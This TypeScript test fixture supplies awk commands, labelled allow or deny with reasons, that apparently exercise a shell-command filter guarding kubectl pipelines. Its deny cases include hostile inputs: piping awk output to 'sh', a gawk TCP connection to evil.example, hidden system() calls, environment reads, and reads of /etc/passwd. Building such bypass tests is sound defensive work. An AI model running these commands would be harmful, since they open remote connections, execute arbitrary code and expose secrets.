import type { Attack } from "./attack.ts";

export const filtersAwk: readonly Attack[] = [
  {
    command: "kubectl get pods | awk '{ print (1)(2) > \"x\" }'",
    expect: "deny",
    why: "parentheses around parts of what is printed",
  },
  {
    command: "kubectl get pods | awk '{ print a, b > c ? d : e }'",
    expect: "deny",
    why: "without parentheses it is no comparison",
  },
  {
    command: "kubectl get pods | awk '{ print a[$1 > 2] }'",
    expect: "deny",
    why: "awks disagree about `>` in an index of what is printed",
  },
  {
    command: 'kubectl get pods | awk \'/[/"]/ { print > "x" }\'',
    expect: "deny",
    why: "a quote in a bracket of a regular expression begins no text",
  },
  {
    command: "kubectl get pods | awk '{ print a / b > \"x\" / c }'",
    expect: "deny",
    why: "slashes that divide hide nothing",
  },
  {
    command: 'kubectl get pods | awk \'{ print "\\"" > "x" }\'',
    expect: "deny",
    why: "an escaped quote does not end the text",
  },
  {
    command: 'kubectl get pods | awk \'{ printf("%s", $1) | "sh" }\'',
    expect: "deny",
    why: "a pipe behind a call in parentheses",
  },
  {
    command: "kubectl get pods | awk '{ print |& \"/inet/tcp/0/evil.example/80\" }'",
    expect: "deny",
    why: "gawk opens connections by name",
  },
  {
    command: 'kubectl get pods | awk \'{ f = "system"; @f("id") }\'',
    expect: "deny",
    why: "gawk calls a function by the name in a variable",
  },
  {
    command: "kubectl get pods | awk 'BEGIN { awk::system(\"id\") }'",
    expect: "deny",
    why: "gawk's names may carry a namespace",
  },
  {
    command: 'kubectl get pods | awk \'BEGIN { print SYMTAB["ENVIRON"]["HOME"] }\'',
    expect: "deny",
    why: "the environment by the table of variables",
  },
  {
    command: "kubectl get pods | awk 'function f(ENVIRON) { return ENVIRON[\"A\"] } { print f() }'",
    expect: "deny",
    why: "no scope is trusted to hide the environment",
  },
  {
    command: "kubectl get pods | awk 'BEGIN { ARGV[ARGC++] = \"/etc/passwd\" } 1'",
    expect: "deny",
    why: "a file to read is added at run time",
  },
  {
    command: "kubectl get pods | awk '{ print }' a=1 /etc/passwd",
    expect: "deny",
    why: "files may stand behind assignments",
  },
  { command: "kubectl get pods | awk -F : -f x", expect: "deny", why: "the program is a file" },
  { command: "kubectl get pods | awk -Wexec x", expect: "deny", why: "mawk's own options stand behind -W" },
  {
    command: "kubectl get pods | awk -v 'x=1' -e 1",
    expect: "deny",
    why: "only gawk knows -e; to others the program is another word",
  },
  {
    command: "kubectl get pods | awk '{ print ($1 > 2), \"a | b > c\", /system|getline/ }'",
    expect: "allow",
    why: "a comparison in parentheses, a text and a regular expression",
  },
  {
    command: "kubectl get pods | awk -F '|' '$4 > 3 || $5 > 1 { print $1 }' OFS=: -",
    expect: "allow",
    why: "a separator, comparisons, and an assignment for an operand",
  },
  {
    command: "kubectl get pods | awk '{ x = $1 > 2; n = $3 / 2 / 3 } # | sh'",
    expect: "allow",
    why: "a comparison where nothing is printed, divisions, a comment",
  },
];
